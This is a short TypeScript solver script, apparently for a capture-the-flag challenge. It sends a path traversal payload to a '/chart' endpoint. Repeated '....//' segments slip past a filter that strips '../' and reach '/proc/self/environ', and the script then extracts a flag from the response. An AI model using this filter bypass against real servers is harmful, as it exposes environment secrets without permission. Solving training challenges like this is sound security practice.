import type { SolveService } from '../types.ts';

/** Deeper than any folder. */
const LEVELS = 16;

export const solve: SolveService = async ({ host, port }) => {
  // The office removes the two dots and the slash in the middle of each `....//`.
  const name = `${'....//'.repeat(LEVELS)}proc/self/environ`;
  const url = new URL(`http://${host}:${port}/chart`);
  url.searchParams.set('name', name);
  const answer = await fetch(url);
  return /flag\{.*?\}/.exec(await answer.text())?.[0] ?? '';
};
